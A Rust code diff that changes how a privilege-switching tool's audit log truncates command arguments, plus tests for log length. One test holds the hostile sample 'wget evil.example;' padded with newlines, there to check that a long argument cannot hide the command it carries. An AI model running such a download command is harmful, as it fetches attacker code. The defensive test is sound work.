@@ -2,7 +2,7 @@
 
 #![forbid(unsafe_code)]
 
-use crate::audit::escape::{quoted, visible};
+use crate::audit::escape::{quoted, shortened, visible, width};
 use crate::audit::field::Field;
 use crate::credential::identity::Identity;
 use crate::invocation::caller::Caller;
@@ -14,7 +14,7 @@ use crate::payload::linger::monitor::Over;
 use crate::reason::{Refusal, Retry};
 use crate::sys::handover::Back;
 use crate::sys::supervise::{Ended, Usage};
-use std::ffi::OsStr;
+use std::ffi::{OsStr, OsString};
 use std::os::unix::ffi::OsStrExt;
 use std::path::Path;
 use std::time::Duration;
@@ -23,6 +23,10 @@ use std::time::Duration;
 const MAX_TEXT: usize = 256;
 /// Longest list of arguments.
 const MAX_ARGUMENTS: usize = 1024;
+/// What stands for arguments that are left out.
+const MORE: &str = " ...";
+/// How many bytes of a cut argument say something.
+const WORTH_SHOWING: usize = 32;
 /// Longest distinguished name.
 const MAX_NAME: usize = 512;
 /// Longest list of FQANs or groups.
@@ -84,9 +88,8 @@ impl Record {
     pub fn wish(&mut self, payload: Option<&Payload>, cwd: Option<&Path>, environment: &Environment) {
         if let Some(payload) = payload {
             self.set(Field::Command, payload.command.as_bytes(), MAX_TEXT);
-            let arguments: Vec<String> = payload.arguments.iter().map(|a| argument(a)).collect();
-            // Visible already; only the bound is left.
-            self.fields.push((Field::Args, bounded(arguments.join(" "), MAX_ARGUMENTS)));
+            // Visible and bounded already.
+            self.fields.push((Field::Args, arguments(&payload.arguments)));
             if let Some(take) = &payload.take {
                 self.set(Field::Take, take.as_os_str().as_bytes(), MAX_TEXT);
             }
@@ -192,15 +195,27 @@ fn argument(argument: &OsStr) -> String {
     if text.is_empty() || text.contains(' ') { format!("'{text}'") } else { text }
 }
 
-/// Cuts a visible text so that no escape sequence is cut in half: at the last blank that fits, or all of it.
-fn bounded(text: String, max: usize) -> String {
-    if text.len() <= max {
-        return text;
+/// Arguments with blanks between, as many as there is room for. Of one that is too long the beginning is kept: nobody
+/// hides what is run behind a long argument.
+fn arguments(all: &[OsString]) -> String {
+    let room = MAX_ARGUMENTS.saturating_sub(MORE.len());
+    let mut text = String::new();
+    for (number, next) in all.iter().enumerate() {
+        let blank = if number == 0 { "" } else { " " };
+        let left = room.saturating_sub(width(&text)).saturating_sub(blank.len());
+        let next = argument(next);
+        let fits = width(&next) <= left;
+        if fits || left >= WORTH_SHOWING {
+            text.push_str(blank);
+            text.push_str(&shortened(next, left));
+        }
+        if !fits {
+            let is_last = number.saturating_add(1) == all.len() && left >= WORTH_SHOWING;
+            text.push_str(if is_last { "" } else { MORE });
+            break;
+        }
     }
-    let room = max.saturating_sub(4);
-    let end = text.char_indices().take_while(|(at, _)| *at <= room).filter(|(_, c)| *c == ' ').last();
-    let head = end.and_then(|(at, _)| text.get(..at)).unwrap_or_default();
-    format!("{head} ...")
+    text
 }
 
 #[cfg(test)]
@@ -236,5 +251,52 @@ mod tests {
         record.wish(Some(&Payload { command: "x".into(), arguments, take: None }), None, &Environment::new(Vec::new()));
         let (_, text) = record.fields().iter().find(|(name, _)| *name == Field::Args).unwrap();
         assert!(text.len() <= MAX_ARGUMENTS && text.ends_with(" ..."), "{text}");
+    }
+
+    fn args(arguments: &[&str]) -> String {
+        arguments_of(arguments.iter().map(|text| (*text).to_owned()).collect())
+    }
+
+    fn arguments_of(arguments: Vec<String>) -> String {
+        let arguments: Vec<OsString> = arguments.into_iter().map(OsString::from).collect();
+        super::arguments(&arguments)
+    }
+
+    #[test]
+    fn a_long_argument_hides_neither_itself_nor_what_was_before_it() {
+        let long = format!("wget evil.example; {}", "\n".repeat(5000));
+        let text = args(&["-c", &long]);
+        assert!(text.starts_with("-c 'wget evil.example; \\x0a\\x0a") && text.ends_with("\\x0a..."), "{text}");
+        assert!(text.len() <= MAX_ARGUMENTS && text.len() > MAX_ARGUMENTS - 20, "{}", text.len());
+        let text = args(&["-c", &long, "more"]);
+        assert!(text.ends_with("... ...") && text.len() <= MAX_ARGUMENTS, "{text}");
+        assert_eq!(args(&["a", "", "b c", "it's"]), "a '' 'b c' it\\x27s");
+    }
+
+    #[test]
+    fn no_record_is_longer_than_a_syslog_message() {
+        let all = "\"".repeat(5000);
+        let mut record = Record::start("0123456789abcdef");
+        record.process(u32::MAX, u32::MAX, i32::MAX);
+        let payload = Payload {
+            command: all.clone().into(),
+            arguments: vec![all.clone().into()],
+            take: Some(std::path::PathBuf::from(&all)),
+        };
+        let environment = ["GLEXEC_ID", "PBS_JOBID"].map(|name| (name.into(), all.clone().into()));
+        record.wish(Some(&payload), Some(Path::new(&all)), &Environment::new(environment.into()));
+        for (field, max) in [
+            (Field::CallerUser, MAX_TEXT),
+            (Field::PilotDn, MAX_NAME),
+            (Field::UserDn, MAX_NAME),
+            (Field::IssuerDn, MAX_NAME),
+            (Field::Serial, MAX_TEXT),
+            (Field::Vo, MAX_TEXT),
+            (Field::Fqans, MAX_LIST),
+        ] {
+            record.set(field, all.as_bytes(), max);
+        }
+        record.deny(&Refusal::new(Reason::LcmapsPoolExhausted, all));
+        assert!(record.line().len() < 8 * 1024 - 256, "{}", record.line().len());
     }
 }
